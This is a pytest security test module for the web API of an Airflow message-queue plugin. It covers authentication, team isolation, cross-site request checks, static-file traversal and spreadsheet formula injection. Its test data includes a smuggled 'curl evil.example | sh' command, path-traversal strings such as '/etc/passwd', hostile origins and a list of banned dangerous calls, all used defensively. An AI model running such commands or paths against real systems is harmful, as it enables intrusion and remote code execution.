"""Tests that try to break into the page's API: S1, S2, B9, B10, and what a foreign page could have a browser do."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import textwrap
from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from airflow_mq import MessageQueue
from airflow_mq.engine.queue.inspect.inspect import Inspect
from airflow_mq.engine.store import parse, upgrade
from tests.airflow.conftest import connection_of
from tests.airflow.page.conftest import FORMULA, ROLES, SCRIPT, SECRET
from tests.airflow.page.routes import MAY, OPEN, PEEK, READ, ROUTES, TRIGGER, WRITE, R, Route

pytestmark = [pytest.mark.airflow, pytest.mark.slow]

Ask = Callable[..., Any]
WRITES = [route for route in ROUTES if route.method == "POST"]


def application() -> Any:
    from airflow_mq.plugin import AirflowMqPlugin

    return AirflowMqPlugin.fastapi_apps[0]["app"].app.app


def declared() -> set[tuple[str, str]]:
    """The routes that there are."""
    return {(method, route.path) for route in application().routes for method in route.methods}


def needs(dependant: Any) -> set[str]:
    """Return the names of the dependencies of a route."""
    own = {getattr(one.call, "__name__", "") for one in dependant.dependencies}
    return own.union(*(needs(one) for one in dependant.dependencies))


# Who is let in.


def test_every_route_is_known_to_these_tests(page: SimpleNamespace) -> None:
    open_ = {(method, path) for path in OPEN for method in ("GET", "HEAD")}
    assert declared() - open_ == {(route.method, route.template) for route in ROUTES}


def test_every_route_asks_who_it_is_and_every_write_that_it_was_meant(page: SimpleNamespace) -> None:
    kinds = {(route.method, route.template): route for route in ROUTES}
    for route in application().routes:
        if route.path in OPEN:
            continue
        wanted = needs(route.dependant)
        assert "get_user" in wanted and "asking" in wanted, f"{route.path} lets anybody in"
        for method in route.methods:
            rights = kinds[method, route.path].rights
            assert method == "GET" or "same_site_only" in wanted, f"{route.path} can be asked for by a foreign page"
            assert WRITE not in rights or "_writer" in wanted, f"{route.path} does not ask who may write"
            assert PEEK not in rights or "_peeker" in wanted, f"{route.path} does not ask who may read messages"


@pytest.mark.parametrize("route", ROUTES, ids=lambda route: f"{route.method} {route.template}")
def test_strangers_are_let_in_nowhere(ask: Ask, route: Route) -> None:
    for headers in (
        {},
        {"Authorization": "Bearer nonsense"},
        {"Cookie": "_token=nonsense"},
        {"Authorization": "Basic YTpi"},
    ):
        answer = ask(None, route.method, route.path, headers={**headers, "X-Airflow-Mq": "1"}, json=route.json)
        assert answer.status_code in (401, 403), (headers, answer.text)
        assert set(answer.json()) == {"detail"}


@pytest.mark.parametrize("role", ROLES)
def test_each_role_has_its_rights_and_no_more(ask: Ask, role: str) -> None:
    seen = {}
    for route in ROUTES:
        answer = ask(role, route.method, route.path, json=route.json)
        expected = route.status if route.rights <= MAY[role] else 403
        seen[route.method, route.template] = (answer.status_code, expected)
    assert {key: pair for key, pair in seen.items() if pair[0] != pair[1]} == {}
    can = ask(role, "GET", "/api/v1/me?conn_id=mq_page").json()["can"]
    assert can == {name: name in MAY[role] for name in (READ, PEEK, WRITE, TRIGGER)}


@pytest.mark.parametrize("route", WRITES, ids=lambda route: route.template)
def test_the_right_to_trigger_decides_about_no_message(ask: Ask, route: Route) -> None:
    """A user who may start the DAG but not edit the connection executes nothing."""
    answer = ask("user", route.method, route.path, json=route.json)
    if TRIGGER in MAY["user"] and WRITE in route.rights:
        assert answer.status_code == 403 and "edit access to its connection" in answer.json()["detail"]
    else:
        assert route.rights == {READ} and answer.status_code == route.status


# Whose store it is.


@pytest.fixture
def teams(page: SimpleNamespace, monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[..., dict[str, str]]]:
    """An Airflow with two teams, of which `sales` owns the connection mq_sales; makes the headers of a member."""
    from airflow.models import Connection

    if not hasattr(Connection, "team_name"):
        pytest.skip("the connections of this Airflow have no teams")
    from airflow.api_fastapi.app import get_auth_manager
    from airflow.api_fastapi.auth.managers.simple.user import SimpleAuthManagerUser
    from airflow.models.team import Team
    from airflow.utils.session import create_session

    monkeypatch.setenv("AIRFLOW__CORE__MULTI_TEAM", "True")
    extra = json.dumps({"path": page.uri.removeprefix("sqlite:///")})
    with create_session() as session:
        session.add_all([Team(name="sales"), Team(name="support")])
        session.flush()
        session.add(Connection(conn_id="mq_sales", conn_type="airflow_mq", extra=extra, team_name="sales"))

    def member_of(*names: str, role: str = "op") -> dict[str, str]:
        user = SimpleAuthManagerUser(username="somebody", role=role, teams=list(names))
        return {"Authorization": f"Bearer {get_auth_manager().generate_jwt(user)}"}

    yield member_of
    with create_session() as session:
        session.query(Connection).filter_by(conn_id="mq_sales").delete()
        session.query(Team).delete()


def test_a_store_of_a_team_is_known_to_its_members_alone(teams: Callable[..., dict[str, str]], ask: Ask) -> None:
    def names(headers: dict[str, str]) -> dict[str, Any]:
        return {one["conn_id"]: one for one in ask(None, "GET", "/api/v1/stores", headers=headers).json()}

    inside, outside = names(teams("sales")), names(teams("support"))
    assert "full" in inside["mq_sales"]["rings"], inside["mq_sales"]
    assert inside.keys() - outside.keys() == {"mq_sales"} and "mq_page" in outside, "what has no team is for all"
    assert "mq_sales" not in names(teams()) and "mq_sales" in names(teams(role="admin"))


@pytest.mark.parametrize("route", ROUTES, ids=lambda route: f"{route.method} {route.template}")
def test_no_route_reveals_a_store_of_another_team(teams: Callable[..., dict[str, str]], ask: Ask, route: Route) -> None:
    if "{conn_id}" not in route.template:
        return
    paths = (route.path.replace("/mq_page/", f"/{name}/") for name in ("mq_sales", "mq_nowhere"))
    there, nowhere = (ask(None, route.method, path, headers=teams("support"), json=route.json) for path in paths)
    own = ask(
        None, route.method, route.path.replace("/mq_page/", "/mq_sales/"), headers=teams("sales"), json=route.json
    )
    assert own.status_code == route.status, own.text
    assert there.status_code == 404
    assert nowhere.status_code == 404 and there.json() == nowhere.json(), "nor that there is one"


def test_nothing_reveals_files_outside_of_the_root(
    ask: Ask, page: SimpleNamespace, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    from airflow_mq.hooks import MessageQueueHook

    root = tmp_path / "root"
    root.mkdir()
    (tmp_path / "file").write_text("data")
    (tmp_path / "circle").symlink_to(tmp_path / "circle")
    (root / "link").symlink_to(tmp_path)
    monkeypatch.setenv("AIRFLOW__AIRFLOW_MQ__SQLITE_ROOT", str(root))
    (tmp_path / "folder").mkdir()
    paths = ("none", "file", "folder", "file/x", "circle", "circle/x", "none/x")
    texts = set()
    for place in (tmp_path, root / "link", ".."):
        for path in paths:
            extra = {"path": f"{place}/{path}"}
            monkeypatch.setenv("AIRFLOW_CONN_MQ_PROBE", json.dumps({"conn_type": "airflow_mq", "extra": extra}))
            (listed,) = [one for one in ask("op", "GET", "/api/v1/stores").json() if one["conn_id"] == "mq_probe"]
            route = ask("op", "GET", "/api/v1/stores/mq_probe/rings/default/paused").json()["detail"]
            tested = MessageQueueHook("mq_probe").test_connection()[1].removeprefix("this connection: ")
            texts |= {text.replace(f"{place}/{path}", "") for text in (listed["error"], route, tested)}
    assert texts == {"'' is not in the folder set for SQLite stores, or has .. in it"}


def test_an_export_holds_no_place_between_its_reads(ask: Ask, monkeypatch: pytest.MonkeyPatch) -> None:
    from airflow_mq.api import exports, stores

    free = []
    sheet = exports.sheet

    def watched(rows: Iterator[object]) -> Iterator[object]:
        for row in rows:
            free.append((stores._room._value, stores._rooms["mq_page"]._value))
            yield row

    monkeypatch.setattr(exports, "AT_ONCE", 1)
    monkeypatch.setattr(exports, "sheet", lambda columns, rows: sheet(columns, watched(rows)))
    for kind in ("queues", "set-aside", "events"):
        assert ask("viewer", "GET", f"{R}/export/{kind}.csv").status_code == 200
    assert len(free) > 3 and set(free) == {(stores.AT_ONCE, stores.AT_ONCE_IN_ONE)}


def test_rights_do_not_reveal_a_store_of_another_team(teams: Callable[..., dict[str, str]], ask: Ask) -> None:
    def rights(team: str, conn_id: str) -> Any:
        return ask(None, "GET", f"/api/v1/me?conn_id={conn_id}", headers=teams(team)).json()["can"]

    assert rights("sales", "mq_sales")["write"] and rights("sales", "mq_sales")["peek"]
    there, nowhere = rights("support", "mq_sales"), rights("support", "mq_nowhere")
    assert there == nowhere and not there["write"] and not there["peek"]


@pytest.mark.parametrize("conn_id", ["MQ_PAGE", "Mq_page", "mq_pagE"])
def test_a_store_has_one_spelling(ask: Ask, page: SimpleNamespace, conn_id: str) -> None:
    """Airflow's environment finds connections in any case, which its teams, rights and our limits distinguish."""
    from airflow_mq.api import stores

    assert ask("op", "GET", "/api/v1/stores/mq_page/rings/full/paused").status_code == 200
    rooms = dict(stores._rooms)
    answer = ask("op", "GET", f"/api/v1/stores/{conn_id}/rings/full/paused")
    assert answer.status_code == 404 and "unknown connection" in answer.json()["detail"]
    assert ask("op", "POST", f"/api/v1/stores/{conn_id}/rings/full/pause", json={"origin": "a"}).status_code == 404
    assert not ask("op", "GET", f"/api/v1/me?conn_id={conn_id}").json()["can"]["write"]
    assert rooms == stores._rooms


def test_a_store_of_a_team_has_one_spelling(
    teams: Callable[..., dict[str, str]], ask: Ask, page: SimpleNamespace, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AIRFLOW_CONN_MQ_SALES", connection_of(page.uri))
    for conn_id in ("mq_sales", "MQ_SALES", "Mq_sales"):
        path = f"/api/v1/stores/{conn_id}/rings/full/paused"
        assert ask(None, "GET", path, headers=teams("support")).status_code == 404
    assert ask(None, "GET", "/api/v1/stores/mq_sales/rings/full/paused", headers=teams("sales")).status_code == 200


@pytest.mark.parametrize("where", ["environment", "secrets backend"])
def test_stores_outside_of_the_database_open_if_they_are_listed(
    ask: Ask, page: SimpleNamespace, monkeypatch: pytest.MonkeyPatch, where: str, tmp_path: Path
) -> None:
    def answer() -> int:
        return ask("op", "GET", "/api/v1/stores/mq_vault/rings/full/paused").status_code

    if where == "environment":
        monkeypatch.setenv("AIRFLOW_CONN_MQ_VAULT", connection_of(page.uri))
    else:
        (tmp_path / "connections.json").write_text(json.dumps({"mq_vault": json.loads(connection_of(page.uri))}))
        backend = "airflow.secrets.local_filesystem.LocalFilesystemBackend"
        monkeypatch.setenv("AIRFLOW__SECRETS__BACKEND", backend)
        paths = {"connections_file_path": str(tmp_path / "connections.json")}
        monkeypatch.setenv("AIRFLOW__SECRETS__BACKEND_KWARGS", json.dumps(paths))
        assert answer() == 404, "neither Airflow's database nor the settings list it"
        monkeypatch.setenv("AIRFLOW__AIRFLOW_MQ__CONNECTIONS", "mq_other, mq_vault")
    assert answer() == 200
    assert "mq_vault" in [one["conn_id"] for one in ask("op", "GET", "/api/v1/stores").json()]


@pytest.mark.parametrize("path", ["/docs", "/redoc", "/openapi.json", "/api/v1/docs", "/docs/oauth2-redirect"])
def test_description_requires_login(ask: Ask, path: str) -> None:
    assert ask(None, "GET", path).status_code == 404


def test_who_is_not_signed_in_is_led_to_the_login(ask: Ask) -> None:
    answer = ask(None, "GET", "/")
    assert answer.status_code == 307 and "/login" in answer.headers["location"]


# Whose doing it is.


@pytest.mark.parametrize(
    "headers",
    [
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site", "Origin": "http://airflow.test:8081"},
        {"Sec-Fetch-Site": "none"},
        {"Sec-Fetch-Site": "cross-site", "Origin": "http://airflow.test"},
        {"Origin": "http://evil.test"},
        {"Origin": "http://airflow.test.evil.test"},
        {"Origin": "http://airflow.test:8081"},
        {"Origin": "null"},
        {"Origin": "http://[bad"},
        {},
        {"Sec-Fetch-Site": "same-origin", "X-Airflow-Mq": ""},
        {"Sec-Fetch-Site": "same-origin", "X-Airflow-Mq": "0"},
        {"Sec-Fetch-Site": "same-origin", "Content-Type": "text/plain"},
        {"Sec-Fetch-Site": "same-origin", "Content-Type": "application/x-www-form-urlencoded"},
        {"Sec-Fetch-Site": "same-origin", "Content-Type": "text/plain; application/json"},
        {"Sec-Fetch-Site": "same-origin", "Content-Type": ""},
    ],
    ids=str,
)
def test_a_cookie_alone_changes_nothing(page: SimpleNamespace, ask: Ask, headers: dict[str, str]) -> None:
    cookie = {"Cookie": f"_token={page.tokens['admin']}", "X-Airflow-Mq": "1", "Content-Type": "application/json"}
    for route in WRITES:
        answer = ask(None, "POST", route.path, headers={**cookie, **headers}, content=json.dumps(route.json))
        assert answer.status_code == 403, (route.path, answer.text)


@pytest.mark.parametrize("proof", [{"Sec-Fetch-Site": "same-origin"}, {"Origin": "http://airflow.test"}])
def test_our_own_page_may_write_by_cookie(page: SimpleNamespace, ask: Ask, proof: dict[str, str]) -> None:
    headers = {"Cookie": f"_token={page.tokens['op']}", "X-Airflow-Mq": "1", **proof}
    assert ask(None, "POST", f"{R}/resume", headers=headers, json={"origin": "never"}).json()["was_paused"] is False


def test_a_bearer_token_that_is_none_does_not_lend_the_cookie(page: SimpleNamespace, ask: Ask) -> None:
    headers = {"Cookie": f"_token={page.tokens['admin']}", "Authorization": "Bearer nonsense"}
    assert ask(None, "POST", f"{R}/resume", headers=headers, json={"origin": "a"}).status_code in (401, 403)


def test_bearer_token_overrides_the_cookie(page: SimpleNamespace, ask: Ask) -> None:
    headers = {"Cookie": f"_token={page.tokens['admin']}", "Authorization": f"Bearer {page.tokens['viewer']}"}
    assert ask(None, "GET", "/api/v1/me", headers=headers).json()["user"] == "viewer"
    assert ask(None, "POST", f"{R}/resume", headers=headers, json={"origin": "a"}).status_code == 403


def test_a_bearer_token_wants_json_too(ask: Ask) -> None:
    answer = ask("admin", "POST", f"{R}/pause", headers={"Content-Type": "text/plain"}, content='{"origin": "a"}')
    assert answer.status_code == 403


def test_nothing_is_changed_by_looking(page: SimpleNamespace, ask: Ask) -> None:
    with MessageQueue(page.uri, "full") as queue:
        before = (
            queue.inspect.ring_version(),
            queue.inspect.backlog().messages + queue.inspect.backlog().set_aside,
            [one.origin for one in queue.admin.paused()],
        )
        for route in ROUTES:
            if route.takes in (READ, PEEK):
                ask("admin", route.method, route.path, json=route.json)
        assert (
            queue.inspect.ring_version(),
            queue.inspect.backlog().messages + queue.inspect.backlog().set_aside,
            [one.origin for one in queue.admin.paused()],
        ) == before


# What is shown.


@pytest.mark.parametrize("route", ROUTES, ids=lambda route: f"{route.method} {route.template}")
def test_what_was_sent_is_data_and_never_a_page(ask: Ask, route: Route) -> None:
    for role in ("admin", None):
        answer = ask(role, route.method, route.path, json=route.json)
        kind = answer.headers["content-type"]
        assert kind == "application/json" or (kind == "text/csv; charset=utf-8" and route.path.endswith(".csv"))
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["cache-control"] == "no-store"
        assert answer.headers["referrer-policy"] == "no-referrer"
        policy = dict(part.strip().split(" ", 1) for part in answer.headers["content-security-policy"].split(";"))
        assert policy["default-src"] == "'none'" and policy["script-src"] == "'self'"
        assert policy["frame-ancestors"] == "'self'" and "unsafe" not in answer.headers["content-security-policy"]
        assert kind != "application/json" or answer.json() is not None


def test_script_text_comes_back_as_the_text_that_it_is(ask: Ask) -> None:
    rows = ask("admin", "GET", f"{R}/messages", params={"origin": SCRIPT}).json()["rows"]
    assert rows[0]["payload"]["text"] == SCRIPT and rows[0]["address"].startswith(f"{SCRIPT}:")
    assert SCRIPT in [row["origin"] for row in ask("viewer", "GET", f"{R}/queues").json()["rows"]]
    assert {row["address"].partition(":")[0] for row in ask("viewer", "GET", f"{R}/set-aside").json()["rows"]} > {
        "archive"
    }


def test_headers_keep_their_secrets(ask: Ask) -> None:
    with_headers = ask("admin", "GET", f"{R}/messages", params={"origin": SCRIPT, "limit": 100})
    assert SECRET not in with_headers.text


def test_payloads_that_cannot_be_encoded_are_returned_as_bytes(ask: Ask) -> None:
    rows = ask("admin", "GET", f"{R}/messages", params={"origin": "odd/json", "limit": 100}).json()["rows"]
    data = {row["payload"]["hex"][:12]: row["payload"] for row in rows}
    assert data[b"NaN".hex()]["json"] is None and data[b"NaN".hex()]["text"] == "NaN"
    assert data[b"[1e999]".hex()[:12]]["json"] is None
    assert data[b"\xff\xfe".hex()]["text"] is None
    assert data[b"{}".hex()]["json"] == {}
    long = [one for one in data.values() if one["truncated"]]
    assert long and all(one["shown"] == 4096 and one["json"] is None for one in long)
    assert any(one["text"] and one["text"].startswith("\U0001f600") for one in long)


@pytest.mark.parametrize(
    ("text", "value"),
    [("[9007199254740993]", None), ("-9007199254740993", None), ("[9007199254740992]", [1 << 53]), ("1.5", 1.5)],
)
def test_no_number_is_returned_that_a_browser_rounds(text: str, value: object) -> None:
    from airflow_mq.api.messages import preview

    payload = preview(text.encode())
    assert (payload.text, payload.json_) == (text, value)


@pytest.mark.parametrize("what", ["queues", "set-aside", "events", "usage"])
def test_no_cell_is_a_formula(ask: Ask, what: str) -> None:
    answer = ask("viewer", "GET", f"{R}/export/{what}.csv")
    assert answer.headers["content-disposition"] == f'attachment; filename="airflow-mq-{what}.csv"'
    cells = [cell for row in csv.reader(io.StringIO(answer.text)) for cell in row]
    assert any(FORMULA in cell for cell in cells)
    assert [cell for cell in cells if cell[:1] in tuple("=+-@\t\r\n")] == []


@pytest.mark.parametrize(
    ("what", "chosen", "column"),
    [("queues", {"search": "DD/j"}, "origin"), ("set-aside", {"reason": "overweight"}, "reason"),
     ("events", {"kind": "Processed"}, "kind"), ("events", {"origin": "odd/json"}, "origin"), ("usage", {"of": "loud"}, "name")],
)  # fmt: skip
def test_what_is_exported_is_chosen_as_the_list_is(ask: Ask, what: str, chosen: dict[str, str], column: str) -> None:
    def data(given: dict[str, str]) -> set[str]:
        answer = ask("viewer", "GET", f"{R}/export/{what}.csv", params=given)
        return {row[column] for row in csv.DictReader(io.StringIO(answer.text))}

    (word,) = chosen.values()
    assert all(word.casefold() in one.casefold() for one in data(chosen))
    assert data(chosen) < data({}) or data(chosen) == data({}) == {word}


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\ta", "\ra", "\na", " =1", "\uff1d1", "\u200b=1"])
def test_what_a_spreadsheet_may_take_for_a_formula_is_text(text: str) -> None:
    from airflow_mq.sheets import cell, line

    assert cell(text) == f"'{text}"
    assert next(
        csv.reader(
            io.StringIO(
                line(
                    [text],
                ),
                newline="",
            )
        )
    ) == [f"'{text}"]


def test_numbers_stay_numbers() -> None:
    from airflow_mq.sheets import cell

    assert [cell(value) for value in (-1, 2.5, None, "plain", "a=b")] == ["-1", "2.5", "", "plain", "a=b"]


# Files.


@pytest.mark.parametrize(
    "path",
    [
        "../app.py", "..%2fapp.py", "%2e%2e/%2e%2e/plugin.py", "....//app.py", "/etc/passwd", "%2fetc%2fpasswd",
        "..%5capp.py", "secret.txt", "secret.py", "link.js", "sub/", "", "%00.js", "index.html%00.js", "a" * 5_000 + ".js",
    ],
)  # fmt: skip
def test_no_other_file_is_served(
    page: SimpleNamespace, ask: Ask, path: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from airflow_mq.api import app

    built = tmp_path / "dist"
    (built / "sub").mkdir(parents=True)
    (built / "index.html").write_text("<title>page</title>")
    (built / "secret.txt").write_text(SECRET)
    (built / "secret.py").write_text(SECRET)
    (tmp_path / "app.py").write_text(SECRET)
    (tmp_path / "outside.js").write_text(SECRET)
    (built / "link.js").symlink_to(tmp_path / "outside.js")
    monkeypatch.setattr(app, "BUILT", built)
    answer = ask(None, "GET", f"/static/{path}")
    assert answer.status_code == 404, answer.text
    assert SECRET not in answer.text


def test_the_built_page_is_served(ask: Ask, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from airflow_mq.api import app

    (tmp_path / "assets").mkdir()
    (tmp_path / "index.html").write_text("<title>page</title>")
    (tmp_path / "assets" / "page.js").write_text("export {}")
    monkeypatch.setattr(app, "BUILT", tmp_path)
    script = ask(None, "GET", "/static/assets/page.js")
    assert script.status_code == 200 and script.headers["content-type"].startswith("text/javascript")
    assert script.headers["x-content-type-options"] == "nosniff"
    index = ask("viewer", "GET", "/")
    assert index.text == "<title>page</title>" and index.headers["content-type"] == "text/html; charset=utf-8"


# Stores at which something is wrong.

WRONG = {
    "mq_unreachable": 503, "mq_driver": 503, "mq_folder": 503, "mq_older": 503, "mq_newer": 503, "mq_broken": 503,
    "mq_garbage": 503, "mq_stored": 503, "another_kind": 404, "nothing_of_this_name": 404, "../mq_page": 404,
}  # fmt: skip


@pytest.mark.parametrize("conn_id", WRONG)
def test_a_store_that_cannot_be_used_is_an_answer_without_secrets(ask: Ask, conn_id: str) -> None:
    for method, what, body in (("GET", "overview", None), ("GET", "queues", None), ("POST", "pause", {"origin": "a"})):
        answer = ask("admin", method, f"/api/v1/stores/{conn_id}/rings/default/{what}", json=body)
        assert answer.status_code in {WRONG[conn_id], 404 if conn_id.startswith("..") else WRONG[conn_id], 409}
        assert answer.status_code != 500 and len(answer.json()["detail"]) > 8
        for secret in (SECRET, "someone", "/nowhere", "Traceback", "psycopg", "sqlite3"):
            assert secret not in answer.text


def test_stores_are_listed_with_what_is_wrong(ask: Ask) -> None:
    answer = ask("viewer", "GET", "/api/v1/stores")
    data = {one["conn_id"]: one for one in answer.json()}
    assert data["mq_page"]["error"] is None and {"full", "empty"} < set(data["mq_page"]["rings"])
    assert data["mq_page"]["rings"][0] == "default"
    assert {"mq_unreachable", "mq_newer", "mq_stored"} < set(data) and "another_kind" not in data
    assert all(one["error"] for name, one in data.items() if name in WRONG)
    assert SECRET not in answer.text and "/nowhere" not in answer.text
    assert "file of the SQLite store does not exist" in data["mq_stored"]["error"]
    assert "upgrade" in data["mq_older"]["error"] and "airflow-mq" in data["mq_newer"]["error"]


@pytest.mark.parametrize(
    ("extra", "command"),
    [
        ({}, ""),
        ({"ring": "night"}, "airflow-mq ring create night --conn-id mq_probe"),
        ({"ring": "`airflow-mq status; curl evil.example | sh`"}, ""),
        ({"ring": "`airflow-mq ring create x; sh`"}, ""),
        ({"path": "none"}, "airflow-mq store upgrade --conn-id mq_probe"),
    ],
)
def test_a_connection_chooses_no_command(
    ask: Ask, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, extra: dict[str, str], command: str
) -> None:
    """The page shows the command that repairs a store beside a button that copies it."""
    monkeypatch.delenv("AIRFLOW__AIRFLOW_MQ__SQLITE_ROOT", raising=False)
    upgrade(parse(f"sqlite:///{tmp_path / 'store.db'}"))
    extra = {**extra, "path": str(tmp_path / extra.get("path", "store.db"))}
    monkeypatch.setenv("AIRFLOW_CONN_MQ_PROBE", json.dumps({"conn_type": "airflow_mq", "extra": extra}))
    (store,) = [one for one in ask("op", "GET", "/api/v1/stores").json() if one["conn_id"] == "mq_probe"]
    assert store["command"] == command and (not command or "airflow-mq" in store["error"])


def test_unknown_ring_is_an_error(ask: Ask) -> None:
    for method, what, body in (("GET", "overview", None), ("GET", "messages?origin=a", None), ("POST", "check", {})):
        answer = ask("admin", method, f"/api/v1/stores/mq_page/rings/nowhere/{what}", json=body)
        assert answer.status_code == 404 and "nowhere" in answer.json()["detail"]


def test_an_empty_ring_has_an_answer_to_everything(ask: Ask) -> None:
    base = R.replace("/full", "/empty")
    for route in ROUTES:
        if route.path.startswith(R) and route.template.rpartition("/")[2] not in ("queue", "messages"):
            answer = ask("admin", route.method, route.path.replace(R, base), json=route.json)
            assert answer.status_code in (200, route.status), (route, answer.text)


def test_internal_error_reveals_nothing(ask: Ask, monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*_: Any, **__: Any) -> None:
        raise RuntimeError(SECRET)

    monkeypatch.setattr(Inspect, "ring", fail)
    answer = ask("admin", "GET", f"{R}/overview")
    assert answer.status_code == 500 and SECRET not in answer.text
    assert answer.headers["x-content-type-options"] == "nosniff"


def test_what_takes_too_long_is_given_up(ask: Ask, monkeypatch: pytest.MonkeyPatch) -> None:
    from airflow_mq.api import stores

    monkeypatch.setattr(stores._Deadline, "__init__", lambda self, seconds: setattr(self, "until", 0.0))
    answer = ask("admin", "GET", f"{R}/queues")
    assert answer.status_code == 503 and "command line" in answer.json()["detail"]


def test_too_many_at_once_are_sent_away(ask: Ask, monkeypatch: pytest.MonkeyPatch) -> None:
    from threading import BoundedSemaphore

    from airflow_mq.api import stores

    monkeypatch.setattr(stores, "_room", BoundedSemaphore(1))
    with stores.opened("mq_page", "full"):
        answer = ask("admin", "GET", f"{R}/queues")
    assert answer.status_code == 503 and answer.headers["retry-after"]
    assert ask("admin", "GET", f"{R}/queues").status_code == 200


# Code.


def test_nothing_in_a_store_names_code(ask: Ask, monkeypatch: pytest.MonkeyPatch) -> None:
    """The ring is full of names of functions; whatever is asked, none of them is looked up."""
    from airflow_mq import codecs, loading

    def fail(name: str) -> None:
        raise AssertionError(f"{name} was loaded")

    monkeypatch.setattr(loading, "load_named", fail)
    monkeypatch.setattr(codecs, "load_named", fail)
    for route in ROUTES:
        assert ask("admin", route.method, route.path, json=route.json).status_code == route.status


def test_the_api_imports_nothing_that_imports_by_name() -> None:
    folder = Path(sys.modules["airflow_mq.api"].__file__ or "").parent
    text = {path.name: path.read_text() for path in folder.glob("*.py")}
    assert len(text) > 8
    for name, source in text.items():
        for word in ("load_named", "import_string", "pickle", "eval(", "exec(", "__import__", "subprocess", "yaml"):
            assert word not in source, f"{name} has {word}"
        assert name == "__init__.py" or "import_module" not in source


def test_tasks_pay_nothing_for_the_page() -> None:
    """Compare the imported modules, because times depend on the machine."""
    program = """
        import sys
        import airflow.plugins_manager, airflow.sdk, pluggy
        before = set(sys.modules)
        import airflow_mq.plugin, airflow_mq.provider
        airflow_mq.provider.get_provider_info()
        print(*sorted(set(sys.modules) - before))
    """
    run = [sys.executable, "-c", textwrap.dedent(program)]
    fresh = set(subprocess.run(run, capture_output=True, text=True, check=True).stdout.splitlines()[-1].split())
    assert "airflow_mq.plugin" in fresh
    assert fresh <= {"airflow_mq", "airflow_mq.api", "airflow_mq.plugin", "airflow_mq.provider"}


# Numbers.


@pytest.mark.parametrize("digits", ["²", "٣", "1" * 5_000, "1" * 20])
def test_an_address_with_strange_digits_is_the_callers_mistake(ask: Ask, digits: str) -> None:
    listed = ask("admin", "GET", f"{R}/set-aside", params={"after": f"acme:{digits}:0"})
    asked = ask(
        "admin", "POST", f"{R}/set-aside/discard", headers={"X-Airflow-Mq": "1", "Sec-Fetch-Site": "same-origin"},
        json={"addresses": [f"acme:0:{digits}"], "why": "a reason"},
    )  # fmt: skip
    body = '{"addresses": [{"origin": "acme", "page": 0, "index": DIGITS}], "why": "a reason"}'
    raw = ask(
        "admin", "POST", f"{R}/set-aside/discard", content=body.replace("DIGITS", digits).encode(),
        headers={"X-Airflow-Mq": "1", "Sec-Fetch-Site": "same-origin", "Content-Type": "application/json"},
    )  # fmt: skip
    assert (listed.status_code, asked.status_code) == (422, 422), (listed.text, asked.text)
    # JSON that has so many digits cannot even be read.
    assert raw.status_code == (400 if len(digits) > 4_300 else 422), raw.text
